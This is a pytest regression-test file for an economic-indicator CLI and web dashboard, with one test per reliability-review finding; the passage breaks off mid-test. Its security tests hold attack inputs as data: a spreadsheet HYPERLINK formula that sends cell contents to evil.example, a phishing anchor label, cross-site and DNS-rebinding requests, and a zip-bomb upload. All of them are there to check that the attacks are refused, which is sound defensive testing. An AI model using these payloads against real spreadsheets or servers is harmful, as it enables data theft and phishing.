"""One regression test per finding of the reliability review (issue 9).

``shared/reviews/reliability.md`` ("Broken promises in detail") lists 37 findings: data loss
(DL1-DL4), security (SE1-SE7), crashes and tracebacks (CR1-CR8), silent repairs and wrong
results (SR1-SR10) and unclear messages (UM1-UM8), each with a minimal reproduction. Each
test below is named after its finding, replays the review's attack through the real entry
point (the ``advantage`` command in-process, a subprocess where stderr itself is the
subject, the dashboard through FastAPI's test client) and asserts the promise: one line on
stderr naming the problem and a non-zero exit, inputs and workspaces unchanged byte for byte,
or the right result. Where another test file already holds the full test, a comment names it.

Every finding is fixed: no test here is expected to fail.
"""

from __future__ import annotations

import asyncio
import csv
import hashlib
import io
import logging
import socket
import subprocess
import sys
import threading
import warnings
from pathlib import Path
from typing import Any

import numpy as np
import openpyxl
import pandas as pd
import pytest
from fastapi.testclient import TestClient

from advantage import AdvantageError, Panel
from advantage.cli import main
from advantage.io.workspace import Workspace
from advantage.measures import compute_indicators
from advantage.web import create_app
from advantage.web.security import TOKEN_HEADER
from advantage.web.upload import MAX_LABEL_LENGTH

ROLES = ["--region", "reg", "--activity", "act", "--value", "val", "--time", "year"]
FORM = {"region": "reg", "activity": "act", "value": "val", "time": "year"}
#: The review's preamble table (2 regions x 2 activities, one year).
T_CSV = b"year,reg,act,val\n2020,R1,A1,5\n2020,R2,A1,3\n2020,R1,A2,3\n2020,R2,A2,1\n"
#: Two values of 1e308 that add up to infinity under --duplicates sum (DL3, SE2).
OVERFLOW = (b"year,reg,act,val\n2020,R1,A1,1e308\n2020,R1,A1,1e308\n2020,R2,A1,1\n"
            b"2020,R1,A2,1\n2020,R2,A2,1\n")


# ------------------------------------------------------------------ helpers
def run(argv: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    """The command in-process: exit code, stdout, stderr."""
    with pytest.raises(SystemExit) as exit_info:
        main(argv)
    out, err = capsys.readouterr()
    return int(exit_info.value.code or 0), out, err


def refused(argv: list[str], capsys: pytest.CaptureFixture[str], *names: str) -> str:
    """Run a command that must fail: non-zero exit, one ``error:`` line naming ``names``."""
    code, _, err = run(argv, capsys)
    assert code != 0, err
    assert_one_error(err)
    for name in names:
        assert name in err, (name, err)
    return err


def assert_one_error(err: str) -> None:
    assert "Traceback" not in err and 'File "' not in err, err
    assert "This is a bug" not in err, err
    errors = [line for line in err.splitlines() if line.startswith("error:")]
    assert len(errors) == 1, err


def sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def write(path: Path, content: bytes | str) -> Path:
    path.write_bytes(content.encode() if isinstance(content, str) else content)
    return path


def ingest(path: Path, ws: Path, name: str, capsys: pytest.CaptureFixture[str],
           *extra: str) -> None:
    code, _, err = run(["ingest", str(path), "--workspace", str(ws), "--name", name, *ROLES,
                        *extra], capsys)
    assert code == 0, err


def panel_table(regions: list[str], activities: list[str]) -> pd.DataFrame:
    """Two years of positive values for every region x activity."""
    rows = [(year, r, a, float((i + 1) * (j + 2) * k + (i * j) % 3))
            for year, k in ((2019, 1), (2020, 2))
            for i, r in enumerate(regions) for j, a in enumerate(activities)]
    return pd.DataFrame(rows, columns=["year", "reg", "act", "val"])


def own_page(app: Any) -> TestClient:
    """A client sending what the dashboard's own page sends (Origin and token)."""
    return TestClient(app, base_url="http://127.0.0.1",
                      headers={"Origin": "http://127.0.0.1",
                               TOKEN_HEADER: app.state.security.token})


def upload(client: TestClient, name: str, data: bytes, **fields: str) -> Any:
    return client.post("/api/upload", files={"file": (name, data)}, data={**FORM, **fields})


@pytest.fixture
def t_csv(tmp_path: Path) -> Path:
    return write(tmp_path / "t.csv", T_CSV)


# ------------------------------------------------------------------ data loss
def test_DL1_export_onto_the_workspace_is_refused(tmp_path, t_csv, capsys) -> None:
    ws = tmp_path / "ws.duckdb"
    ingest(t_csv, ws, "a", capsys)
    ingest(t_csv, ws, "b", capsys)
    before = sha(ws)
    refused(["export", "--workspace", str(ws), "--name", "a", "--out", str(ws)], capsys,
            str(ws))
    assert sha(ws) == before
    assert run(["export", "--workspace", str(ws), "--name", "b", "--out",
                str(tmp_path / "b.csv")], capsys)[0] == 0


@pytest.mark.parametrize("kind", ["csv", "parquet", ":memory:"])
def test_DL2_a_workspace_that_is_not_a_duckdb_file_is_refused(tmp_path, t_csv, capsys,
                                                              kind) -> None:
    # tests/test_workspace.py has the full workspace guard; this is the review's attack
    if kind == ":memory:":
        store = Path(":memory:")
    else:
        store = tmp_path / f"store.{kind}"
        if kind == "csv":
            write(store, T_CSV)
        else:
            pd.read_csv(t_csv).to_parquet(store)
        before = sha(store)
    refused(["ingest", str(t_csv), "--workspace", str(store), "--name", "a", *ROLES], capsys,
            "workspace")
    if kind != ":memory:":
        assert sha(store) == before


def test_DL3_an_overflowing_sum_is_never_stored(tmp_path, t_csv, capsys) -> None:
    ws = tmp_path / "w2.duckdb"
    ingest(t_csv, ws, "good", capsys)
    before = sha(ws)
    refused(["ingest", str(write(tmp_path / "ov.csv", OVERFLOW)), "--workspace", str(ws),
             "--name", "ov", *ROLES, "--duplicates", "sum"], capsys, "overflows", "ov.csv")
    assert sha(ws) == before
    assert list(Workspace(ws).datasets()["name"]) == ["good"]
    app = create_app(workspace=ws)  # what `serve --workspace` builds: it still starts
    assert app.state.store.names() == ["good"] and not app.state.store.unreadable


def test_DL4_outputs_never_overwrite_inputs_or_each_other(tmp_path, t_csv, capsys) -> None:
    before = sha(t_csv)
    refused(["advantages", str(t_csv), *ROLES, "--out", str(t_csv)], capsys, "input")
    assert sha(t_csv) == before
    same = tmp_path / "same.html"
    refused(["report", str(t_csv), *ROLES, "--focus", "R1", "--out", str(same), "--excel",
             str(same)], capsys, "--excel")
    assert not same.exists()


# ------------------------------------------------------------------ security
def test_SE1_a_zip_bomb_workbook_is_refused_before_parsing() -> None:
    # tests/test_web_fuzz.py::test_zip_bomb_upload_is_refused_before_parsing sends the
    # review's 430,000-row bomb to a real server; this sends a 200,000-row one in-process
    from tests.test_web_fuzz import _zip_bomb

    bomb = _zip_bomb(200_000)  # ~23 MB of sheet XML in ~90 KB
    response = upload(own_page(create_app()), "bomb.xlsx", bomb)
    assert 400 <= response.status_code < 500
    assert "unpacks to" in response.json()["detail"]


def test_SE2_a_poisoned_upload_never_reaches_the_workspace(tmp_path, t_csv, capsys) -> None:
    # the cross-site half is tests/test_web_security.py::
    # test_se2_a_cross_site_poison_upload_never_reaches_the_workspace
    ws = tmp_path / "ws.duckdb"
    ingest(t_csv, ws, "base", capsys)
    app = create_app(workspace=ws)
    response = upload(own_page(app), "ov.csv", OVERFLOW, duplicates="sum")
    assert response.status_code == 422 and "overflows" in response.json()["detail"]
    foreign = TestClient(app, base_url="http://127.0.0.1").post(
        "/api/upload", files={"file": ("t.csv", T_CSV)}, data=FORM,
        headers={"Origin": "http://evil.example", "Sec-Fetch-Site": "cross-site"})
    assert foreign.status_code == 403
    assert list(Workspace(ws).datasets()["name"]) == ["base"]
    assert create_app(workspace=ws).state.store.names() == ["base"]  # serve still starts


def test_SE3_foreign_hosts_cannot_read_and_foreign_pages_cannot_write() -> None:
    # tests/test_web_security.py and tests/test_web_fuzz.py hold the full checks
    app = create_app(panel=Panel.from_long(pd.read_csv(io.BytesIO(T_CSV)), region="reg",
                                           activity="act", value="val", time="year"),
                     name="secret")
    rebinding = TestClient(app).get("/api/datasets", headers={"Host": "attacker.example"})
    assert rebinding.status_code == 400 and "secret" not in rebinding.text
    cross = TestClient(app, base_url="http://127.0.0.1").post(
        "/api/upload", files={"file": ("t.csv", T_CSV)}, data=FORM,
        headers={"Origin": "http://evil.example", "Sec-Fetch-Site": "cross-site"})
    assert cross.status_code == 403
    assert app.state.store.names() == ["secret"]


def test_SE4_a_tiny_sparse_upload_is_refused_before_any_work() -> None:
    rows = [f"2020,r{i},a{i},1\n2020,r{i},a{(i + 1) % 2000},2\n" for i in range(2000)]
    body = ("year,reg,act,val\n" + "".join(rows)).encode()
    assert len(body) < 100_000
    response = upload(own_page(create_app()), "sparse.csv", body)
    assert response.status_code == 422
    assert "the dashboard accepts at most" in response.json()["detail"]


def test_SE5_formula_labels_are_written_as_text(tmp_path, capsys) -> None:
    # tests/test_safe_outputs.py checks export and the report workbook too
    source = tmp_path / "f.csv"
    panel_table(['=HYPERLINK("https://evil.example/?"&A1,"click")', "R2", "=1+2"],
                ["A1", "@A2"]).to_csv(source, index=False, quoting=csv.QUOTE_NONNUMERIC)
    out = tmp_path / "f.xlsx"
    assert run(["advantages", str(source), *ROLES, "--out", str(out)], capsys)[0] == 0
    cells = [c for row in openpyxl.load_workbook(out).active.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert "'=1+2" in {c.value for c in cells}


def test_SE6_link_labels_reach_the_report_as_text(tmp_path, capsys) -> None:
    link = '<a href="https://evil.example/phish">Click here</a>'
    source = tmp_path / "links.csv"
    panel_table([link, "R2", "R3"], ["A1", "A2"]).to_csv(source, index=False)
    page = tmp_path / "r.html"
    assert run(["report", str(source), *ROLES, "--focus", "R2", "--out", str(page)],
               capsys)[0] == 0
    text = page.read_text().replace("\\u003c", "<").replace("\\u002f", "/")
    assert '<a href=\\"https://evil.example' not in text
    assert '<a href="https://evil.example' not in text
    assert '&lt;a href=\\"https://evil.example/phish\\"&gt;' in text  # shown, escaped


def test_SE7_security_headers() -> None:
    # tests/test_web_security.py::test_se7_security_headers_on_pages_api_and_errors
    headers = TestClient(create_app(), base_url="http://127.0.0.1").get("/").headers
    assert "frame-ancestors 'none'" in headers["content-security-policy"]
    assert headers["x-frame-options"] == "DENY"
    assert headers["x-content-type-options"] == "nosniff"


# ------------------------------------------------------------------ crash / traceback
@pytest.fixture
def no_server(monkeypatch: pytest.MonkeyPatch) -> list[bool]:
    """Stands in for uvicorn's server: a test that reaches it records so and returns."""
    import uvicorn

    started: list[bool] = []
    monkeypatch.setattr(uvicorn.Server, "run", lambda self, **kw: started.append(True))
    return started


CORRUPT_XLSX = b"PK\x03\x04" + bytes(range(256)) * 8
LEGACY_XLS = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1junk"


@pytest.mark.parametrize("content, suffix, says", [
    (CORRUPT_XLSX, ".xlsx", "damaged"), (LEGACY_XLS, ".xls", "legacy .xls")])
@pytest.mark.parametrize("command", [
    ["indicators", "IN", *ROLES, "--out", "OUT"],
    ["advantages", "IN", *ROLES, "--out", "OUT.csv"],
    ["ingest", "IN", "--workspace", "OUT.duckdb", "--name", "x", *ROLES],
    ["ingest", "IN", "--workspace", "OUT.duckdb", "--name", "x", "--wide", "--region", "reg",
     "--year", "2020"],
    ["serve", "--input", "IN", *ROLES],
], ids=["indicators", "advantages", "ingest", "ingest-wide", "serve"])
def test_CR1_corrupt_and_legacy_workbooks_give_one_line(tmp_path, capsys, no_server, content,
                                                        suffix, says, command) -> None:
    book = write(tmp_path / f"bad{suffix}", content)
    argv = [str(book) if a == "IN" else a.replace("OUT", str(tmp_path / "o")) for a in command]
    refused(argv, capsys, says)
    assert sha(book) == hashlib.sha256(content).hexdigest()
    assert not (tmp_path / "o.duckdb").exists()  # a refused ingest creates no workspace


UNIFORM = ("year,reg,act,val\n" + "".join(f"{y},{r},{a},1\n" for y in (2019, 2020)
                                          for r in ("R1", "R2") for a in ("A1", "A2")))


def test_CR2_backtest_without_candidates_says_so(tmp_path, capsys) -> None:
    code, out, err = run(["backtest", str(write(tmp_path / "uni.csv", UNIFORM)), *ROLES,
                          "--out", str(tmp_path / "bt")], capsys)
    assert code == 0 and "Traceback" not in err
    assert "no candidate" in out and "undefined" in out
    assert (tmp_path / "bt" / "metrics.csv").exists()


@pytest.mark.parametrize("option, says", [
    (["--methods", ""], "--methods"), (["--seed", "-1"], "--seed"),
    (["--seed", str(2**70)], "--seed")], ids=["methods-empty", "seed-negative", "seed-huge"])
def test_CR2_backtest_bad_options_give_one_line(tmp_path, capsys, option, says) -> None:
    refused(["backtest", str(write(tmp_path / "uni.csv", UNIFORM)), *ROLES, "--out",
             str(tmp_path / "bt"), *option], capsys, says)
    assert not (tmp_path / "bt").exists()


def test_CR3_damaged_workspaces_give_one_line_and_stay_untouched(tmp_path, t_csv,
                                                                  capsys) -> None:
    import duckdb

    ws = tmp_path / "ws.duckdb"
    ingest(t_csv, ws, "a", capsys)
    ingest(t_csv, ws, "b", capsys)
    with duckdb.connect(str(ws)) as con:
        con.execute("update datasets set label_kinds='not json' where name = 'a'")
    refused(["export", "--workspace", str(ws), "--name", "a", "--out",
             str(tmp_path / "a.csv")], capsys, "'a'", "damaged", "datasets remove")
    assert run(["export", "--workspace", str(ws), "--name", "b", "--out",
                str(tmp_path / "b.csv")], capsys)[0] == 0  # the others still read
    assert run(["datasets", "remove", "a", "--workspace", str(ws)], capsys)[0] == 0

    foreign = tmp_path / "foreign.duckdb"
    with duckdb.connect(str(foreign)) as con:
        con.execute("create table datasets (name varchar, foo int)")
    truncated = write(tmp_path / "truncated.duckdb", ws.read_bytes()[:5000])
    for damaged in (foreign, truncated):
        before = sha(damaged)
        refused(["ingest", str(t_csv), "--workspace", str(damaged), "--name", "x", *ROLES],
                capsys, str(damaged))
        assert sha(damaged) == before


@pytest.mark.parametrize("content, says", [
    (b"", "empty"), (bytes(range(128, 256)) * 4, "encoding"),
    (T_CSV, "not an ionet table")], ids=["empty", "binary", "not-ionet"])
def test_CR4_linkages_on_files_that_are_not_io_tables(tmp_path, capsys, content,
                                                      says) -> None:
    refused(["linkages", str(write(tmp_path / "x.csv", content)), "--out",
             str(tmp_path / "l")], capsys, says)
    assert not (tmp_path / "l").exists()


def test_CR5_ragged_microdata_give_one_line_naming_the_line(tmp_path, capsys) -> None:
    firms = write(tmp_path / "f.csv",
                  "year,prov,code,emp\n2020,宁夏,3011,10,99\n2020,甘肃,3012\n")
    ws = tmp_path / "w.duckdb"
    refused(["ingest", str(firms), "--workspace", str(ws), "--name", "f", "--microdata",
             "--region", "prov", "--activity", "code", "--time", "year", "--value", "emp"],
            capsys, "line 2", "ragged")
    assert not ws.exists()


@pytest.mark.parametrize("command", [["indicators", "IN", *ROLES, "--out", "OUT"],
                                     ["ingest", "IN", "--workspace", "OUT.duckdb", "--name",
                                      "s", *ROLES, "--stream"]], ids=["indicators", "stream"])
def test_CR6_struct_parquet_columns_give_one_line(tmp_path, capsys, command) -> None:
    import pyarrow as pa
    import pyarrow.parquet as pq

    source = tmp_path / "s.parquet"
    pq.write_table(pa.table({"year": [2020] * 2, "reg": pa.array([{"a": 1}, {"a": 2}]),
                             "act": ["A1", "A1"], "val": [1.0, 2.0]}), source)
    argv = [str(source) if a == "IN" else a.replace("OUT", str(tmp_path / "o"))
            for a in command]
    refused(argv, capsys, "nested values", "'reg'")


@pytest.mark.parametrize("port", ["-1", "70000"])
def test_CR7_serve_refuses_impossible_ports(capsys, no_server, port) -> None:
    refused(["serve", "--port", port], capsys, "--port")
    assert not no_server


def _aborted_upload(app: Any) -> list[dict[str, Any]]:
    """Send half an upload, then disconnect (as a closed browser tab does)."""
    sent: list[dict[str, Any]] = []
    messages = [{"type": "http.request", "more_body": True,
                 "body": b'--B\r\nContent-Disposition: form-data; name="file"; '
                         b'filename="t.csv"\r\n\r\nyear,reg'},
                {"type": "http.disconnect"}]

    async def receive() -> dict[str, Any]:
        return messages.pop(0) if messages else {"type": "http.disconnect"}

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)

    headers = [(b"host", b"127.0.0.1"), (b"origin", b"http://127.0.0.1"),
               (TOKEN_HEADER.lower().encode(), app.state.security.token.encode()),
               (b"content-type", b"multipart/form-data; boundary=B"),
               (b"content-length", b"100000")]
    scope = {"type": "http", "http_version": "1.1", "method": "POST", "scheme": "http",
             "path": "/api/upload", "raw_path": b"/api/upload", "root_path": "",
             "query_string": b"", "headers": headers, "server": ("127.0.0.1", 8000),
             "client": ("127.0.0.1", 50000)}
    # a thread of its own: other tests (Playwright) may leave an event loop in this one
    worker = threading.Thread(target=lambda: asyncio.run(app(scope, receive, send)))
    worker.start()
    worker.join(timeout=60)
    return sent


def test_CR8_an_aborted_upload_logs_no_traceback_and_builds_no_500(caplog) -> None:
    app = create_app()
    with caplog.at_level(logging.DEBUG, logger="advantage.web"):
        sent = _aborted_upload(app)
    statuses = [m["status"] for m in sent if m["type"] == "http.response.start"]
    assert statuses and all(s != 500 for s in statuses)
    records = [r for r in caplog.records if r.name.startswith("advantage")]
    assert not [r for r in records if r.exc_info or r.levelno >= logging.ERROR]
    assert any("went away" in r.getMessage() for r in records)


# ------------------------------------------------------------------ silent repair
FIPS = ("year,state_fips,naics,emp\n" + "".join(
    f"2018,{s},311,100\n2018,{s},325,50\n" for s in (11, 12, 13, 36, 47, 48, 56)))


def test_SR1_us_fips_codes_are_not_renamed_to_provinces(tmp_path, capsys) -> None:
    ws = tmp_path / "w4.duckdb"
    code, out, err = run(["ingest", str(write(tmp_path / "fips.csv", FIPS)), "--workspace",
                          str(ws), "--name", "f", "--region", "state_fips", "--activity",
                          "naics", "--value", "emp", "--time", "year", "--normalise", "auto"],
                         capsys)
    assert code == 0, err
    assert "region normaliser: none" in out and "rows rejected: 0" in out
    assert list(Workspace(ws).panel("f").regions) == ["11", "12", "13", "36", "47", "48", "56"]


SHORT = b"year,reg,act,val\n2020,R1,A1,5\n2020,R2,A1\n2020,R1,A2,3\n2020,R2,A2,1\n"


@pytest.mark.parametrize("command", ["ingest", "indicators"])
def test_SR2_a_short_row_is_refused_never_stored_as_zero(tmp_path, capsys, command) -> None:
    short = write(tmp_path / "short.csv", SHORT)
    target = ["--workspace", str(tmp_path / "w3.duckdb"), "--name", "s"] \
        if command == "ingest" else ["--out", str(tmp_path / "o")]
    refused([command, str(short), *target, *ROLES, "--missing", "zero"], capsys, "line 3")
    assert not (tmp_path / "w3.duckdb").exists() and not (tmp_path / "o").exists()


def test_SR3_microdata_years_are_never_rounded(tmp_path, capsys) -> None:
    firms = write(tmp_path / "firms.csv", "year,prov,code,emp\n2020.5,宁夏,3011,1\n"
                                          "2019.6,甘肃,3011,2\n2020,宁夏,3011,4\n")
    ws = tmp_path / "w5.duckdb"
    code, out, err = run(["ingest", str(firms), "--workspace", str(ws), "--name", "m",
                          "--microdata", "--region", "prov", "--activity", "code", "--time",
                          "year", "--value", "emp"], capsys)
    assert code == 0, err
    assert "rows rejected: 2" in out and "year not an integer" in out
    assert Workspace(ws).panel("m").to_long().values.tolist() == [[2020, "宁夏", "3011", 4.0]]


def test_SR4_codes_keep_their_leading_zeros(tmp_path, capsys) -> None:
    # tests/test_one_road.py::test_codes_keep_their_leading_zeros_on_every_road (upload too)
    codes = write(tmp_path / "codes.csv", "year,reg,act,val\n2020,R1,0101,5\n2020,R2,0101,3\n"
                                          "2020,R1,101,3\n2020,R2,101,1\n")
    assert run(["indicators", str(codes), *ROLES, "--duplicates", "sum", "--out",
                str(tmp_path / "c")], capsys)[0] == 0
    cells = pd.read_csv(tmp_path / "c" / "cells.csv", dtype={"activity": str})
    assert sorted(set(cells["activity"])) == ["0101", "101"]
    assert cells.groupby("activity")["value"].sum().to_dict() == {"0101": 8.0, "101": 4.0}


IDENTITY = "reg,act,val\nA,X1,10\nB,X2,10\nC,X3,10\nD,X4,10\n"


def test_SR5_eci_of_a_degenerate_panel_is_nan_with_a_note(tmp_path, capsys) -> None:
    code, _, err = run(["indicators", str(write(tmp_path / "ident.csv", IDENTITY)),
                        "--region", "reg", "--activity", "act", "--value", "val", "--out",
                        str(tmp_path / "i")], capsys)
    assert code == 0, err
    regions = pd.read_csv(tmp_path / "i" / "regions.csv")
    assert regions["eci"].isna().all(), regions  # today: C = 1.73, the others -0.58
    assert "eci" in err.lower()  # the note says why


def test_SR6_values_whose_totals_overflow_are_refused(tmp_path, capsys) -> None:
    big = write(tmp_path / "big.csv", "year,reg,act,val\n" + "".join(
        f"2020,{r},{a},1e308\n" for r in ("R1", "R2") for a in ("A1", "A2")))
    refused(["indicators", str(big), *ROLES, "--out", str(tmp_path / "b")], capsys,
            "overflows", "rescale")
    assert not (tmp_path / "b").exists()


def test_SR6_a_panel_built_in_python_refuses_overflowing_totals() -> None:
    with warnings.catch_warnings():
        warnings.simplefilter("error", RuntimeWarning)
        with pytest.raises(AdvantageError, match="overflow"):
            panel = Panel.from_cube(np.full((1, 2, 2), 1e308), regions=["R1", "R2"],
                                    activities=["A1", "A2"], times=[2020])
            compute_indicators(panel)


def _transfer_panel(tmp_path: Path) -> Path:
    rng = np.random.default_rng(5)
    rows = [(year, f"R{i}", f"A{j}", float(rng.integers(1, 50)))
            for year in (2015, 2020) for i in range(6) for j in range(5)]
    path = tmp_path / "p.csv"
    pd.DataFrame(rows, columns=["year", "reg", "act", "val"]).to_csv(path, index=False)
    return path


TRANSFER = ["transfer", "IN", *ROLES, "--from-year", "2015", "--to-year", "2020",
            "--sources", "R0,R1", "--out", "OUT"]


@pytest.mark.parametrize("argv, side, says", [
    (["indicators", "IN", *ROLES, "--threshold", "inf", "--out", "OUT"], None, "threshold"),
    (["opportunities", "IN", *ROLES, "--window", "0", "--out", "OUT"], None, "--window"),
    (["opportunities", "IN", *ROLES, "--window", "-3", "--out", "OUT"], None, "--window"),
    (["opportunities", "IN", *ROLES, "--window", "nan", "--out", "OUT"], None, "--window"),
    (["structure", "IN", *ROLES, "--min-similarity", "nan", "--out", "OUT"], None,
     "--min-similarity"),
    ([*TRANSFER, "--top", "0"], None, "--top"),
    ([*TRANSFER, "--top", "-1"], None, "--top"),
    (["advantages", "IN", *ROLES, "--pillar-share", "2", "--out", "OUT"], None,
     "pillar_share"),
    ([*TRANSFER, "--destinations", "R1,R2"], None, "both sources and destinations"),
    ([*TRANSFER, "--costs", "SIDE"], "region,wage\nR3,-1\n", "'R3'"),
    ([*TRANSFER, "--costs", "SIDE"], "region,wage\nR3,inf\n", "'R3'"),
    ([*TRANSFER, "--costs", "SIDE"], "region,wage\nR3,\nR4,2\n", "'R3'"),
    ([*TRANSFER, "--costs", "SIDE"], "region,wage\nAtlantis,2\n", "'Atlantis'"),
    ([*TRANSFER, "--costs", "SIDE"], "region,wage\nR3,1\nR3,2\n", "more than once"),
    (["advantages", "IN", *ROLES, "--endowments", "SIDE", "--tags", "SIDE2", "--out", "OUT"],
     "region,endowment,value\nR0,solar,5\nR1,solar,1\n", "'wind'"),
], ids=["threshold-inf", "window-0", "window-negative", "window-nan", "min-similarity-nan",
        "top-0", "top-negative", "pillar-share-2", "sources-are-destinations",
        "cost-negative", "cost-inf", "cost-blank", "cost-unknown-region", "cost-repeated",
        "tags-unknown-endowment"])
def test_SR7_nonsense_or_conflicting_options_are_refused(tmp_path, capsys, argv, side,
                                                         says) -> None:
    source = _transfer_panel(tmp_path)
    write(tmp_path / "side.csv", side or "")
    write(tmp_path / "tags.csv", "activity,endowment\nA1,wind\n")
    out = tmp_path / "out"
    argv = [{"IN": str(source), "OUT": str(out / "x.csv"), "SIDE": str(tmp_path / "side.csv"),
             "SIDE2": str(tmp_path / "tags.csv")}.get(a, a) for a in argv]
    refused(argv, capsys, says)
    assert not out.exists()


def test_SR7_centroids_off_the_globe_are_refused(tmp_path, capsys) -> None:
    source = _transfer_panel(tmp_path)
    centroids = write(tmp_path / "cent.csv", "region,lon,lat\nR0,500,95\n" + "".join(
        f"R{i},10,10\n" for i in range(1, 6)))
    argv = [{"IN": str(source), "OUT": str(tmp_path / "tr.csv")}.get(a, a) for a in TRANSFER]
    refused([*argv, "--centroids", str(centroids)], capsys, "'R0'")


def test_SR7_named_sources_replace_the_preset_groups(tmp_path, capsys) -> None:
    # Intended (docs/methods/planning.md, transfer): --sources/--destinations name the groups and
    # replace the preset's default ones; the preset still gives names and distances.
    rows = [(y, p, a, v) for y, k in ((2015, 1.0), (2020, 2.0))
            for p, a, v in (("Guangdong", "C1", 9 * k), ("Ningxia", "C1", 2.0),
                            ("Gansu", "C1", 3 * k), ("Zhejiang", "C1", 5.0),
                            ("Guangdong", "C2", 4.0), ("Ningxia", "C2", 6 * k),
                            ("Gansu", "C2", 1.0), ("Zhejiang", "C2", 2 * k))]
    source = tmp_path / "china.csv"
    pd.DataFrame(rows, columns=["year", "reg", "act", "val"]).to_csv(source, index=False)
    relocation = tmp_path / "reloc.csv"
    code, out, err = run(["transfer", str(source), *ROLES, "--preset", "china",
                          "--sources", "Ningxia", "--from-year", "2015", "--to-year", "2020",
                          "--out", str(tmp_path / "tr.csv"), "--relocation",
                          str(relocation)], capsys)
    assert code == 0, err
    assert "out of 1 source regions" in out  # Ningxia alone, not the preset's east


def test_SR8_latin1_is_read_as_latin1(tmp_path, capsys) -> None:
    # tests/test_io_encoding.py has the detector's cases
    text = "year,reg,act,val\n2020,Zürich,A1,5\n2020,Genève,A1,3\n2020,Zürich,A2,3\n" \
           "2020,Genève,A2,1\n"
    source = write(tmp_path / "l1.csv", text.encode("latin-1"))
    assert run(["indicators", str(source), *ROLES, "--out", str(tmp_path / "o")],
               capsys)[0] == 0
    regions = pd.read_csv(tmp_path / "o" / "regions.csv")
    assert sorted(regions["region"]) == ["Genève", "Zürich"]


@pytest.mark.parametrize("argv, says", [
    (["advantages", "IN", *ROLES, "--out", "OUT/x.json"], "'.json'"),
    (["advantages", "IN", *ROLES, "--out", "OUT/x.txt"], "'.txt'"),
    (["advantages", "IN", *ROLES, "--out", "OUT/x.xls"], "'.xls'"),
    (["report", "IN", *ROLES, "--focus", "R1", "--out", "OUT/r.html", "--excel", "OUT/r.csv"],
     ".xlsx"),
], ids=["json", "txt", "xls", "report-excel-csv"])
def test_SR9_output_extensions_are_honoured(tmp_path, t_csv, capsys, argv, says) -> None:
    out = tmp_path / "out"
    refused([a.replace("IN", str(t_csv)).replace("OUT", str(out)) for a in argv], capsys, says)
    assert not out.exists() or not any(out.iterdir())


def test_SR10_every_uploaded_label_can_be_asked_for() -> None:
    long = "L" * MAX_LABEL_LENGTH
    frame = panel_table([" R1", "R1", long, "R4"], ["A1", "A2", "A3"])
    app = create_app()
    client = own_page(app)
    response = upload(client, "t.parquet", frame.to_parquet(index=False))
    assert response.status_code == 201, response.text
    name = response.json()["dataset"]["name"]
    compare = client.get("/api/compare", params={"regions": " R1,R1", "dataset": name})
    assert compare.json()["regions"] == [" R1", "R1"]  # the spaced label, not its twin
    for path, params in (("/api/opportunities", {"region": long}),
                         ("/api/transfer", {"destination": long}),
                         ("/api/compare", {"regions": f"{long},R4"}),
                         ("/api/chart/quadrant", {"regions": " R1"})):
        reply = client.get(path, params={**params, "dataset": name})
        assert reply.status_code == 200, (path, reply.text[:200])
    longer = panel_table(["L" * (MAX_LABEL_LENGTH + 1), "R2"], ["A1", "A2"])
    refusal = upload(client, "t.csv", longer.to_csv(index=False).encode())
    assert refusal.status_code == 422 and "at most 1,000" in refusal.json()["detail"]


# ------------------------------------------------------------------ unclear messages
def test_UM1_no_numpy_warning_reaches_stderr(tmp_path) -> None:
    # a real process, since the finding is what stderr shows
    one = write(tmp_path / "one.csv", "year,reg,act,val\n2020,R1,A1,5\n2020,R1,A2,3\n")
    zero = write(tmp_path / "zero.csv", "year,reg,act,val\n2020,R1,A1,0\n2020,R2,A1,0\n"
                                        "2021,R1,A1,2\n2021,R2,A1,3\n2021,R1,A2,2\n"
                                        "2021,R2,A2,1\n")
    runs = {
        "stata": [str(one), "indicators", "--convention", "stata"],
        "zero-year": [str(zero), "structure", "--base-year", "2020", "--final-year", "2021"],
    }
    for case, (source, command, *options) in runs.items():
        result = subprocess.run([sys.executable, "-m", "advantage", command, source, *ROLES,
                                 *options, "--out", str(tmp_path / case)],
                                capture_output=True, text=True, timeout=120)
        assert "Warning" not in result.stderr and ".py:" not in result.stderr, result.stderr
        if result.returncode:
            assert result.stderr.startswith("error:"), result.stderr  # the first line
            assert_one_error(result.stderr)


def test_UM1_the_measures_raise_no_runtime_warning() -> None:
    panel = Panel.from_cube(np.array([[[5.0, 3.0]]]), regions=["R1"],
                            activities=["A1", "A2"], times=[2020])
    with warnings.catch_warnings():
        warnings.simplefilter("error", RuntimeWarning)
        compute_indicators(panel, convention="stata")


def test_UM2_na_is_a_label(tmp_path, capsys) -> None:
    na = write(tmp_path / "na.csv", "year,reg,act,val\n2020,NA,A1,5\n2020,DE,A1,3\n"
                                    "2020,NA,A2,3\n2020,DE,A2,1\n")
    assert run(["indicators", str(na), *ROLES, "--out", str(tmp_path / "o")], capsys)[0] == 0
    regions = pd.read_csv(tmp_path / "o" / "regions.csv", keep_default_na=False)
    assert sorted(regions["region"]) == ["DE", "NA"]


def test_UM3_messages_name_file_lines(tmp_path, capsys) -> None:
    dup = write(tmp_path / "dup.csv", "year,reg,act,val\n2020,R1,A1,5\n2020,R1,A1,3\n")
    refused(["indicators", str(dup), *ROLES, "--out", str(tmp_path / "o")], capsys,
            "line 2", "line 3")


@pytest.mark.parametrize("content, roles, says", [
    ("year,reg,act,val\n2019,R1,A1,5\n2020,R1,A1,3\n", ROLES[:6], "time column"),
    ("year,reg,act,val\n2020,R1,A1,5\n2020,R2,A1\n", ROLES, "line 3 has 3"),
    ("year,reg,act,val\n2020,R1,A1,5\n2020,R2\n", ROLES, "line 3 has 2"),
], ids=["forgotten-time", "short-row", "half-row"])
def test_UM4_hints_point_at_the_real_problem(tmp_path, capsys, content, roles, says) -> None:
    err = refused(["indicators", str(write(tmp_path / "x.csv", content)), *roles, "--out",
                   str(tmp_path / "o")], capsys, says)
    assert "missing value" not in err and "empty labels" not in err


def test_UM4_an_empty_wide_header_cell_is_not_a_ragged_row(tmp_path, capsys) -> None:
    wide = write(tmp_path / "w.csv", "reg,A1,,A3\nR1,1,2,3\nR2,1,2,3\n")
    err = refused(["ingest", str(wide), "--workspace", str(tmp_path / "w.duckdb"), "--name",
